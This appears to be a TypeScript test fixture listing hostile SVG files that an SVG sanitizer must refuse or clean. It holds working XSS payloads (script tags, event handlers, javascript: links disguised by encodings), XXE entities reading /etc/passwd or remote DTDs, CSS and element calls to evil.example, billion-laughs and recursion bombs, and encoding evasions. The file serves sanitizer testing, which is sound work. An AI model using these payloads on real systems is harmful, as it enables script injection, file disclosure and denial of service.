// Drawings that somebody made to harm: each must be refused or come out without what it carries.

export type HostileDrawing = { readonly name: string; readonly source: string | Uint8Array };

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

function around(content: string, attributes = ""): string {
  return `<svg ${NS} ${XLINK} viewBox="0 0 10 10" ${attributes}>${content}<circle id="seat" r="1"/></svg>`;
}

function utf16(text: string, little: boolean): Uint8Array {
  const bytes = [...text].flatMap((character) => {
    const code = character.charCodeAt(0);
    return little ? [code & 255, code >> 8] : [code >> 8, code & 255];
  });
  return Uint8Array.from([...(little ? [255, 254] : [254, 255]), ...bytes]);
}

const INSIDE: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "a script by reference": '<script href="https://evil.example/x.js"/>',
  "a script of another type": '<script type="application/ecmascript">alert(1)</script>',
  "a script in CDATA": "<script><![CDATA[alert(1)]]></script>",
  "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
  "a script under another prefix": '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  "a script of XHTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  "a script in the default namespace of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  "a script with a prefix that is called svg":
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  "a script in an unknown element": "<foo><script>alert(1)</script></foo>",
  "a script in defs": "<defs><script>alert(1)</script></defs>",
  "a script in a symbol that is used": '<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>',
  "a handler": '<rect onclick="alert(1)" width="1" height="1"/>',
  "a handler in mixed case": '<rect onClick="alert(1)" width="1" height="1"/>',
  "a handler with a character reference": '<rect onmouse&#111;ver="alert(1)" width="1" height="1"/>',
  "a handler of an animation":
    '<rect width="1" height="1"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></rect>',
  "a handler under a prefix": '<rect xmlns:e="urn:e" e:onload="alert(1)" width="1" height="1"/>',
  foreignObject:
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  "foreignObject in a switch": "<switch><foreignObject><iframe/></foreignObject><g/></switch>",
  "an iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
  "an embedded object": '<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
  "a video": '<video xmlns="http://www.w3.org/1999/xhtml"><source onerror="alert(1)"/></video>',
  "a link with javascript": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript by xlink": '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript in mixed case": '<a xlink:href="JaVaScRiPt:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript after spaces": '<a xlink:href="  \t\n javascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript with a tab in it": '<a xlink:href="java&#9;script:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript with a line end in it":
    '<a xlink:href="java&#x0A;script:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript in decimal references":
    '<a xlink:href="&#106;&#97;vascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link with javascript in long hex references":
    '<a xlink:href="&#x000006A;avascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link with percent signs": '<a xlink:href="%6Aavascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link under a prefix of its own":
    '<a xmlns:q="http://www.w3.org/1999/xlink" q:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  "a link to a page of data":
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect width="9" height="9"/></a>',
  "a link with vbscript": '<a href="vbscript:msgbox(1)"><rect width="9" height="9"/></a>',
  "a use of another file": '<use href="https://evil.example/x.svg#a"/>',
  "a use of data": '<use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>',
  "a use without a scheme": '<use href="//evil.example/x.svg#a"/>',
  "a use of a file beside": '<use href="other.svg#a"/>',
  "an image from outside": '<image href="https://evil.example/track.png" width="1" height="1"/>',
  "an image that is a drawing":
    '<image href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;" width="1" height="1"/>',
  "an image of a file": '<image xlink:href="file:///etc/passwd" width="1" height="1"/>',
  feImage:
    '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width="1" height="1"/>',
  "an import in a style": "<style>@import url(https://evil.example/x.css); .a{fill:red}</style>",
  "an import in quotes": '<style>@import "https://evil.example/x.css";</style>',
  "an import with an escape": "<style>@\\69mport 'https://evil.example/x.css';</style>",
  "an import in CDATA": "<style><![CDATA[@import url(//evil.example);]]></style>",
  "an import split by a comment": "<style>@im/**/port url(//evil.example);</style>",
  "a url in a style sheet": "<style>rect{fill:url(https://evil.example/x.svg#p)}</style>",
  "a url with an escape": "<style>rect{fill:u\\72l(https://evil.example/x)}</style>",
  "a url in quotes in an attribute": '<rect fill="url(\'https://evil.example/#a\')" width="1" height="1"/>',
  "a url in a style attribute": '<rect style="fill:URL( https://evil.example/#a )" width="1" height="1"/>',
  "a background": '<rect style="background:url(javascript:alert(1))" width="1" height="1"/>',
  "a font from outside": "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>",
  "an expression": '<rect style="width:expression(alert(1))" width="1" height="1"/>',
  "an expression split by a comment": '<rect style="fill:exp/* */ression(alert(1))" width="1" height="1"/>',
  "a binding": '<rect style="-moz-binding:url(https://evil.example/x.xml#a)" width="1" height="1"/>',
  "a behaviour": '<rect style="behavior:url(#default#time2)" width="1" height="1"/>',
  "a cursor": '<rect style="cursor:url(https://evil.example/c.cur),auto" width="1" height="1"/>',
  "selectors that read attributes": '<style>[id^="a"]{fill:url(https://evil.example/?a)}</style>',
  "a style that ends itself": "<style>.a{fill:red}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
  "a style of a namespace": "<style>@namespace x url(http://evil.example);</style>",
  "an image set": '<rect style="fill:image-set(url(https://evil.example/x.png) 1x)" width="1" height="1"/>',
  "an animated href": '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="9" height="9"/></a>',
  "an animated xlink:href":
    '<a><animate attributeName="xlink:href" begin="0s" to="javascript:alert(1)"/><rect width="9" height="9"/></a>',
  "a set href": '<use href="#seat"><set attributeName="href" to="data:image/svg+xml,x#a"/></use>',
  animateMotion:
    '<rect width="1" height="1"><animateMotion><mpath href="https://evil.example/#p"/></animateMotion></rect>',
  "a handler element": '<handler type="text/javascript">alert(1)</handler>',
  "a listener": '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
  "a base": '<g xml:base="https://evil.example/"><use href="#seat"/></g>',
  "a comment that opens a script": "<!-- --><script>alert(1)</script><!-- -->",
  "CDATA in a text": "<text><![CDATA[<script>alert(1)</script>]]></text>",
  "markup in a title": "<title>&lt;img src=x onerror=alert(1)&gt;</title>",
  "elements in a title": '<title><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></title>',
  "elements in a description": "<desc><script>alert(1)</script></desc>",
  "attributes that frameworks run":
    '<rect data-hx-get="https://evil.example" x-on:click="alert(1)" data-turbo="1" hx-on="alert(1)" width="1" height="1"/>',
  "an id that breaks out": '<rect id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" width="1" height="1"/>',
  "a class that breaks out": '<rect class="a&quot; onload=&quot;alert(1)" width="1" height="1"/>',
  "a transform that breaks out": '<rect transform="rotate(1)&quot; onload=&quot;x" width="1" height="1"/>',
  "an unknown namespace": '<x:thing xmlns:x="urn:unknown" x:href="javascript:alert(1)"/>',
  "math with a link": '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:alert(1)">x</mi></math>',
  "a processing instruction inside": '<?xml-stylesheet href="https://evil.example/x.css"?>',
  "a prefix that nobody declared": "<evil:script>alert(1)</evil:script>",
  "a default namespace that changes": '<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>',
  "names of Object's own": '<rect constructor="x" __proto__="y" toString="z" width="1" height="1"/>',
};

const BILLION = `<!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${"bcdefghij"[level]} "${`&${"abcdefghi"[level]};`.repeat(10)}">`).join("")}]>`;

function layered(levels: number, width: number): string {
  const uses = (target: string): string => `<use href="#${target}"/>`.repeat(width);
  const layers = Array.from({ length: levels }, (_, level) => `<g id="l${level + 1}">${uses(`l${level}`)}</g>`);
  return around(`<defs><rect id="l0" width="1" height="1"/>${layers.join("")}</defs><use href="#l${levels}"/>`);
}

function patterned(levels: number): string {
  const rects = (target: string): string => `<rect fill="url(#${target})" width="9" height="9"/>`.repeat(10);
  const layers = Array.from(
    { length: levels },
    (_, level) => `<pattern id="p${level + 1}" width="1" height="1">${rects(`p${level}`)}</pattern>`,
  );
  return around(
    `<defs><pattern id="p0" width="1" height="1"><rect width="1" height="1"/></pattern>${layers.join("")}</defs><rect fill="url(#p${levels})" width="9" height="9"/>`,
  );
}

const WHOLE: readonly HostileDrawing[] = [
  { name: "a handler on the outermost element", source: around("", 'onload="alert(1)"') },
  { name: "a billion laughs", source: `${BILLION}<svg ${NS}><text>&j;</text></svg>` },
  {
    name: "an entity of a file",
    source: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NS}><text>&x;</text></svg>`,
  },
  {
    name: "a parameter entity",
    source: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg ${NS}/>`,
  },
  { name: "an attribute default", source: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg ${NS}/>` },
  {
    name: "Illustrator's entity with a script in it",
    source: `<!DOCTYPE svg [<!ENTITY ns_svg "&#60;script>">]><svg ${NS}><text>&ns_svg;</text></svg>`,
  },
  {
    name: "a namespace by an entity of its own value",
    source: `<!DOCTYPE svg [<!ENTITY ns_ai "http://www.w3.org/2000/svg">]><svg ${NS} xmlns:x="&ns_ai;"><x:script>alert(1)</x:script></svg>`,
  },
  { name: "an entity that nobody declared", source: `<svg ${NS}><text>&evil;</text></svg>` },
  { name: "two document types", source: `<!DOCTYPE svg><!DOCTYPE svg [<!ENTITY a "b">]><svg ${NS}/>` },
  { name: "a style sheet by instruction", source: `<?xml-stylesheet href="https://evil.example/x.css"?><svg ${NS}/>` },
  { name: "deep nesting", source: `<svg ${NS}>${"<g>".repeat(100_000)}${"</g>".repeat(100_000)}</svg>` },
  { name: "deep nesting without an end", source: `<svg ${NS}>${"<g>".repeat(300_000)}` },
  { name: "too many elements", source: `<svg ${NS}>${"<g/>".repeat(300_000)}</svg>` },
  { name: "a huge attribute", source: around(`<rect id="${"a".repeat(3_000_000)}"/>`) },
  { name: "a huge path", source: around(`<path d="M0 0${"L1 1".repeat(1_000_000)}"/>`) },
  {
    name: "many attributes",
    source: around(`<rect ${Array.from({ length: 5_000 }, (_, index) => `a${index}="x"`).join(" ")}/>`),
  },
  { name: "a huge text", source: around(`<text>${"x".repeat(1_000_000)}</text>`) },
  { name: "a huge style", source: around(`<style>${".a{fill:red}".repeat(100_000)}</style>`) },
  { name: "many carriage returns", source: around(`<text>${"\r".repeat(200_000)}</text>`) },
  { name: "many references", source: around(`<text>${"&#13;".repeat(9_000)}</text>`) },
  { name: "characters outside the basic plane", source: around(`<text>${"\u{1F4A9}".repeat(1_000_000)}</text>`) },
  { name: "uses of uses", source: layered(12, 10) },
  { name: "a long chain of uses", source: layered(5_000, 1) },
  { name: "patterns of patterns", source: patterned(12) },
  { name: "a use of itself", source: around('<g id="a"><use href="#a"/></g>') },
  { name: "two uses of each other", source: around('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>') },
  {
    name: "a pattern in itself by a style",
    source: around('<style>.p{fill:url(#p)}</style><pattern id="p"><rect class="p" width="1" height="1"/></pattern>'),
  },
  { name: "a null byte", source: around("<scr\u0000ipt>alert(1)</scr\u0000ipt>") },
  { name: "a null byte by reference", source: around("<text>&#0;</text>") },
  { name: "a control character in a scheme", source: around('<a href="\u0001javascript:alert(1)"/>') },
  { name: "a lone surrogate", source: around("<text>\uD800</text>") },
  { name: "UTF-16 with its mark", source: utf16(around("<script>alert(1)</script>"), true) },
  { name: "UTF-16 of the other order", source: utf16(around("<script>alert(1)</script>"), false) },
  { name: "UTF-16 without a mark", source: utf16(around("<script/>"), true).slice(2) },
  {
    name: "UTF-7 by declaration",
    source: `<?xml version="1.0" encoding="UTF-7"?><svg ${NS}>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>`,
  },
  { name: "another encoding by declaration", source: `<?xml version="1.0" encoding="ISO-2022-JP"?><svg ${NS}/>` },
  {
    name: "bytes that are no UTF-8",
    source: Uint8Array.from([60, 115, 118, 103, 62, 0xc0, 0xbc, 60, 47, 115, 118, 103, 62]),
  },
  {
    name: "a script written too long in UTF-8",
    source: Uint8Array.from([60, 115, 118, 103, 62, 0xe0, 0x80, 0xbc, 62]),
  },
  { name: "a byte order mark and a script", source: `\uFEFF${around("<script>alert(1)</script>")}` },
  { name: "two byte order marks", source: `\uFEFF\uFEFF${around("")}` },
  { name: "nothing", source: "" },
  { name: "spaces", source: "   " },
  { name: "an HTML page", source: "<html><body><script>alert(1)</script></body></html>" },
  { name: "an HTML page with a document type", source: "<!doctype html><svg onload=alert(1)>" },
  { name: "svg of no namespace with a script", source: "<svg><script>alert(1)</script><circle r='1'/></svg>" },
  { name: "an svg of XHTML", source: '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>' },
  { name: "attributes without quotes", source: `<svg ${NS}><rect onclick=alert(1) /></svg>` },
  { name: "an attribute twice", source: `<svg ${NS}><rect id="a" id="b"/></svg>` },
  { name: "tags that cross", source: `<svg ${NS}><g><rect></g></rect></svg>` },
  { name: "a tag in a tag", source: `<svg ${NS}><rect <script>alert(1)</script>/></svg>` },
  { name: "a comment in a tag", source: `<svg ${NS}><scr<!-- -->ipt>alert(1)</script></svg>` },
  { name: "a comment between the brackets", source: `<svg ${NS}><<!-- -->script>alert(1)</script></svg>` },
  { name: "a comment that is not closed", source: `<svg ${NS}><!-- <rect/></svg>` },
  { name: "CDATA that is not closed", source: `<svg ${NS}><text><![CDATA[</text></svg>` },
  { name: "a second outermost element", source: `<svg ${NS}/><script>alert(1)</script>` },
  { name: "text after the end", source: `<svg ${NS}/>alert(1)` },
  { name: "the parser's own mark as an element", source: around("<_><script>alert(1)</script></_><_/>") },
  {
    name: "a tag of one line of megabytes with an error at its end",
    source: `<svg ${NS}>${'<rect width="1"/>'.repeat(150_000)}<rect width=1/></svg>`,
  },
];

export const HOSTILE_DRAWINGS: readonly HostileDrawing[] = [
  ...Object.entries(INSIDE).map(([name, content]) => ({ name, source: around(content) })),
  ...WHOLE,
];
